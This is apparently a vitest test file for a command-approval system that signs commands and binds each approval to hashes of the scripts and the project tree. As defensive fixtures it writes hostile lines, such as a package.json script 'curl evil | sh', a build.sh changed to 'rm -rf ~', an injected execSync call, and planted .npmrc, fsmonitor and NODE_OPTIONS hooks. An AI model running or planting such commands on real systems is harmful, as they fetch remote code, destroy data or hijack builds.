import { execFileSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { existsSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  commandDigest,
  DEFAULT_APPROVAL_LIFETIME_MS,
  scriptHashFor,
  signApproval,
  verifyApproval,
} from './approval.js';
import { HashBudgetExceeded } from './bounded-hash.js';
import { projectTreeHash } from './project-tree.js';
import { tempDir } from './test-support.js';

const hub = generateKeyPairSync('ed25519');
const other = generateKeyPairSync('ed25519');
const now = Date.UTC(2026, 10, 25, 4, 0, 0);

function project() {
  const cwd = tempDir();
  writeFileSync(join(cwd, 'build.sh'), '#!/bin/sh\necho build\n', { mode: 0o755 });
  return cwd;
}

async function approve(
  argv: string[],
  cwd: string,
  overrides: { taskId?: string; expiresAt?: number } = {},
) {
  const digest = commandDigest({ argv, cwd, scriptHash: await scriptHashFor(argv, cwd) });
  return signApproval(
    hub.privateKey,
    {
      taskId: overrides.taskId ?? 'task-1',
      digest,
      approvedBy: 'alice',
      expiresAt: overrides.expiresAt,
    },
    now,
  );
}

/** verifyApproval with the script hash of the files as they are now (as the worker takes it). */
async function check(
  key: Parameters<typeof verifyApproval>[0],
  token: string,
  command: { taskId: string; argv: string[]; cwd: string },
  at: number,
) {
  const scriptHash = await scriptHashFor(command.argv, command.cwd);
  return verifyApproval(key, token, { ...command, scriptHash }, at);
}

describe('commandDigest and scriptHashFor', () => {
  it('the digest is canonical and changes with argv, cwd and the script hash', async () => {
    const base = { argv: ['bash', 'build.sh'], cwd: '/w', scriptHash: 'a'.repeat(64) };
    expect(commandDigest(base)).toMatch(/^[0-9a-f]{64}$/);
    expect(
      commandDigest({ scriptHash: base.scriptHash, cwd: '/w', argv: ['bash', 'build.sh'] }),
    ).toBe(commandDigest(base));
    expect(commandDigest({ ...base, argv: ['bash', 'build.sh', 'x'] })).not.toBe(
      commandDigest(base),
    );
    expect(commandDigest({ ...base, argv: ['bash build.sh'] })).not.toBe(commandDigest(base));
    expect(commandDigest({ ...base, cwd: '/w2' })).not.toBe(commandDigest(base));
    expect(commandDigest({ ...base, scriptHash: null })).not.toBe(commandDigest(base));
  });

  it('hashes the script a command runs: a path, an interpreter file argument, package.json', async () => {
    const cwd = project();
    mkdirSync(join(cwd, 'bin'));
    writeFileSync(join(cwd, 'bin', 'run.py'), 'print(1)\n');
    const script = await scriptHashFor(['bash', 'build.sh'], cwd);
    expect(script).toMatch(/^[0-9a-f]{64}$/);
    expect(await scriptHashFor(['sh', '-x', 'build.sh', 'arg'], cwd)).toBe(script);
    expect(await scriptHashFor(['./build.sh'], cwd)).toMatch(/^[0-9a-f]{64}$/);
    expect(await scriptHashFor(['python3', 'bin/run.py'], cwd)).toMatch(/^[0-9a-f]{64}$/);
    expect(await scriptHashFor(['python3', 'bin/run.py'], cwd)).not.toBe(script);
    // A program that is not the project's own code reads no file argv names: nothing bound.
    expect(await scriptHashFor(['git', 'status'], cwd)).toBeNull();
    expect(await scriptHashFor(['ls', '-a'], cwd)).toBeNull();
    writeFileSync(join(cwd, 'package.json'), '{"scripts":{"test":"vitest"}}');
    const before = await scriptHashFor(['npm', 'test'], cwd);
    expect(await scriptHashFor(['node', '--run', 'test'], cwd)).toBe(before);
    expect(before).toMatch(/^[0-9a-f]{64}$/);
    writeFileSync(join(cwd, 'package.json'), '{"scripts":{"test":"curl evil | sh"}}');
    expect(await scriptHashFor(['npm', 'test'], cwd)).not.toBe(before);
  });

  it('hashes the file the interpreter opens: lnk/../x.py through the link, not x.py as text', async () => {
    const cwd = project();
    const outside = tempDir('ctxbus-outside-');
    mkdirSync(join(outside, 'sub'));
    writeFileSync(join(outside, 'x.py'), 'print("outside")\n');
    writeFileSync(join(cwd, 'x.py'), 'print("inside")\n');
    symlinkSync(join(outside, 'sub'), join(cwd, 'lnk'));
    const through = await scriptHashFor(['python3', 'lnk/../x.py'], cwd);
    const direct = await scriptHashFor(['python3', join(outside, 'x.py')], cwd);
    const inside = await scriptHashFor(['python3', 'x.py'], cwd);
    expect(through).not.toBe(inside);
    // Both name outside/x.py beside the same working tree, under different words.
    writeFileSync(join(outside, 'x.py'), 'print("edited")\n');
    expect(await scriptHashFor(['python3', 'lnk/../x.py'], cwd)).not.toBe(through);
    expect(await scriptHashFor(['python3', join(outside, 'x.py')], cwd)).not.toBe(direct);
    expect(await scriptHashFor(['python3', 'x.py'], cwd)).toBe(inside);
  });

  it('hashes a directory an interpreter runs from outside the working directory (its __main__.py)', async () => {
    const cwd = project();
    const outside = tempDir('ctxbus-pkg-');
    writeFileSync(join(outside, '__main__.py'), 'print("approved")\n');
    const before = await scriptHashFor(['python3', outside], cwd);
    writeFileSync(join(outside, '__main__.py'), 'print("swapped in after the approval")\n');
    expect(await scriptHashFor(['python3', outside], cwd)).not.toBe(before);
  });

  it('reads what it hashes within a budget: a file that never ends is refused, not read into memory', async () => {
    const cwd = project();
    const before = process.memoryUsage().rss;
    // A "regular file" of size 0 that reads hundreds of GB.
    const refusal = scriptHashFor(['perl', '/proc/self/pagemap'], cwd);
    await expect(refusal).rejects.toThrow(HashBudgetExceeded);
    await expect(refusal).rejects.toThrow(
      /\/proc\/self\/pagemap takes a script past 67108864 bytes: too large to bind an approval to/,
    );
    // Read in chunks: the worker did not hold the 64 MiB it read.
    expect(process.memoryUsage().rss - before).toBeLessThan(48 * 1024 * 1024);
  });

  it('refuses a working tree whose files hold more than its budget, rather than leave one out', async () => {
    const cwd = project();
    writeFileSync(join(cwd, 'data.bin'), Buffer.alloc(3_000, 1));
    await expect(projectTreeHash(cwd, undefined, 2_000)).rejects.toThrow(
      /takes the working tree past 2000 bytes/,
    );
    expect(await projectTreeHash(cwd, undefined, 4_000)).toMatch(/^[0-9a-f]{64}$/);
  });
});

describe('signApproval and verifyApproval', () => {
  const argv = ['bash', 'build.sh'];

  it('a valid approval verifies, with a default lifetime of 30 minutes', async () => {
    const cwd = project();
    const token = await approve(argv, cwd);
    const verdict = await check(hub.publicKey, token, { taskId: 'task-1', argv, cwd }, now + 1_000);
    expect(verdict).toMatchObject({
      valid: true,
      approval: { approvedBy: 'alice', taskId: 'task-1' },
    });
    if (verdict.valid)
      expect(verdict.approval.expiresAt - verdict.approval.issuedAt).toBe(
        DEFAULT_APPROVAL_LIFETIME_MS,
      );
    // PEM keys work as well as KeyObjects.
    const pem = hub.publicKey.export({ type: 'spki', format: 'pem' }).toString();
    expect(await check(pem, token, { taskId: 'task-1', argv, cwd }, now)).toMatchObject({
      valid: true,
    });
  });

  it('tampered argv or cwd is refused', async () => {
    const cwd = project();
    const token = await approve(argv, cwd);
    const other = project();
    for (const command of [
      { argv: ['bash', 'build.sh', '--evil'], cwd },
      { argv: ['sh', 'build.sh'], cwd },
      { argv, cwd: other },
    ]) {
      expect(
        await check(hub.publicKey, token, { taskId: 'task-1', ...command }, now),
      ).toMatchObject({
        valid: false,
        code: 'approval_invalid',
        reason: expect.stringContaining('different command'),
      });
    }
  });

  it('a script edited after approval voids it', async () => {
    const cwd = project();
    const token = await approve(argv, cwd);
    writeFileSync(join(cwd, 'build.sh'), '#!/bin/sh\nrm -rf ~\n');
    expect(await check(hub.publicKey, token, { taskId: 'task-1', argv, cwd }, now)).toMatchObject({
      valid: false,
      reason: expect.stringContaining('changed since'),
    });
  });

  it('an expired approval is refused (the default lifetime, and an explicit expiry)', async () => {
    const cwd = project();
    const token = await approve(argv, cwd);
    expect(
      await check(
        hub.publicKey,
        token,
        { taskId: 'task-1', argv, cwd },
        now + DEFAULT_APPROVAL_LIFETIME_MS,
      ),
    ).toMatchObject({ valid: false, reason: expect.stringContaining('expired') });
    const short = await approve(argv, cwd, { expiresAt: now + 5_000 });
    expect(
      await check(hub.publicKey, short, { taskId: 'task-1', argv, cwd }, now + 4_999),
    ).toMatchObject({ valid: true });
    expect(
      await check(hub.publicKey, short, { taskId: 'task-1', argv, cwd }, now + 5_000),
    ).toMatchObject({ valid: false });
  });

  it('a wrong key, a forged payload or a malformed token is refused', async () => {
    const cwd = project();
    const token = await approve(argv, cwd);
    expect(await check(other.publicKey, token, { taskId: 'task-1', argv, cwd }, now)).toMatchObject(
      {
        valid: false,
        reason: expect.stringContaining('not signed by the hub'),
      },
    );
    const forged = signApproval(
      other.privateKey,
      {
        taskId: 'task-1',
        digest: commandDigest({ argv, cwd, scriptHash: await scriptHashFor(argv, cwd) }),
        approvedBy: 'mallory',
      },
      now,
    );
    expect(await check(hub.publicKey, forged, { taskId: 'task-1', argv, cwd }, now)).toMatchObject({
      valid: false,
    });
    // The hub's signature over another payload does not carry over.
    const [, signature] = token.split('.');
    const [body] = forged.split('.');
    expect(
      await check(hub.publicKey, `${body}.${signature}`, { taskId: 'task-1', argv, cwd }, now),
    ).toMatchObject({
      valid: false,
    });
    for (const bad of ['', 'abc', 'a.b.c', `${token}x`]) {
      expect(await check(hub.publicKey, bad, { taskId: 'task-1', argv, cwd }, now)).toMatchObject({
        valid: false,
      });
    }
  });

  it('an approval for another task is refused', async () => {
    const cwd = project();
    const token = await approve(argv, cwd, { taskId: 'task-2' });
    expect(await check(hub.publicKey, token, { taskId: 'task-1', argv, cwd }, now)).toMatchObject({
      valid: false,
      reason: expect.stringContaining('task-2'),
    });
  });
});

describe('an approval of a project command is bound to the working tree', () => {
  const git = (cwd: string, ...args: string[]) =>
    execFileSync('git', ['-c', 'user.email=t@example.com', '-c', 'user.name=t', ...args], {
      cwd,
      stdio: 'ignore',
    });
  const verifies = async (argv: string[], cwd: string, token: string) =>
    (await check(hub.publicKey, token, { taskId: 'task-1', argv, cwd }, now)).valid;

  for (const kind of ['a git repository', 'a plain directory'] as const) {
    it(`in ${kind}: an edited test file, a new .npmrc or a new file voids an approval of npm test`, async () => {
      const argv = ['npm', 'test'];
      const fresh = () => {
        const cwd = tempDir();
        mkdirSync(join(cwd, 'test'));
        writeFileSync(join(cwd, 'package.json'), '{"scripts":{"test":"node test/run.js"}}');
        writeFileSync(join(cwd, 'test', 'run.js'), "console.log('ok');\n");
        writeFileSync(join(cwd, '.gitignore'), 'node_modules/\n');
        if (kind === 'a git repository') {
          git(cwd, 'init', '-q');
          git(cwd, 'add', '.');
          git(cwd, 'commit', '-qm', 'init');
        }
        return cwd;
      };
      // The review's two cases: a test file edited after the approval, and an .npmrc with
      // script-shell added; then an untracked file the tests could pick up.
      const edited = fresh();
      const first = await approve(argv, edited);
      expect(await verifies(argv, edited, first)).toBe(true);
      writeFileSync(join(edited, 'test', 'run.js'), "require('child_process').execSync('id');\n");
      expect(await verifies(argv, edited, first)).toBe(false);

      const configured = fresh();
      const second = await approve(argv, configured);
      writeFileSync(join(configured, '.npmrc'), 'script-shell=./sh.sh\n');
      expect(await verifies(argv, configured, second)).toBe(false);

      const added = fresh();
      const third = await approve(argv, added);
      writeFileSync(join(added, 'test', 'extra.test.js'), 'boom\n');
      expect(await verifies(argv, added, third)).toBe(false);
    });
  }

  it("hashing the tree runs none of the repository's programs (core.fsmonitor), and a changed .git/config voids the approval", async () => {
    const cwd = tempDir();
    writeFileSync(join(cwd, 'package.json'), '{"scripts":{"test":"node t.js"}}');
    writeFileSync(join(cwd, 't.js'), '1;\n');
    git(cwd, 'init', '-q');
    // What a sandboxed command could plant in the project it may write: a program git runs
    // when it refreshes the index, as the worker's user, outside the sandbox.
    const marker = join(cwd, 'fsmonitor-ran');
    writeFileSync(join(cwd, '.git', 'monitor.sh'), `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 });
    const argv = ['npm', 'test'];
    const token = await approve(argv, cwd);
    git(cwd, 'config', 'core.fsmonitor', join(cwd, '.git', 'monitor.sh'));
    expect(await verifies(argv, cwd, token)).toBe(false); // .git/config changed
    await approve(argv, cwd);
    expect(existsSync(marker)).toBe(false);
  });

  it('hashing the tree lets the event loop turn (a worker renews its other leases meanwhile)', async () => {
    for (const inGit of [true, false]) {
      const cwd = tempDir();
      for (let index = 0; index < 200; index++)
        writeFileSync(join(cwd, `f${index}.js`), `${index}`);
      if (inGit) git(cwd, 'init', '-q');
      let turned = false;
      setTimeout(() => {
        turned = true;
      }, 0);
      const hash = await projectTreeHash(cwd);
      expect(turned).toBe(true);
      expect(hash).toMatch(/^[0-9a-f]{64}$/);
      // The same tree, the same hash; one byte more, another.
      expect(await projectTreeHash(cwd)).toBe(hash);
      writeFileSync(join(cwd, 'f7.js'), '77');
      expect(await projectTreeHash(cwd)).not.toBe(hash);
    }
  });

  it('what git ignores (node_modules) does not void it, and an ignored .env or .npmrc does', async () => {
    const cwd = tempDir();
    writeFileSync(join(cwd, 'package.json'), '{"scripts":{"test":"node t.js"}}');
    writeFileSync(join(cwd, 't.js'), '1;\n');
    writeFileSync(join(cwd, '.gitignore'), 'node_modules/\n.env\n.npmrc\n');
    git(cwd, 'init', '-q');
    const argv = ['npm', 'test'];
    const token = await approve(argv, cwd);
    mkdirSync(join(cwd, 'node_modules'));
    writeFileSync(join(cwd, 'node_modules', 'x.js'), 'cache\n');
    expect(await verifies(argv, cwd, token)).toBe(true);
    writeFileSync(join(cwd, '.env'), 'NODE_OPTIONS=--require ./x.js\n');
    expect(await verifies(argv, cwd, token)).toBe(false);
  });
});
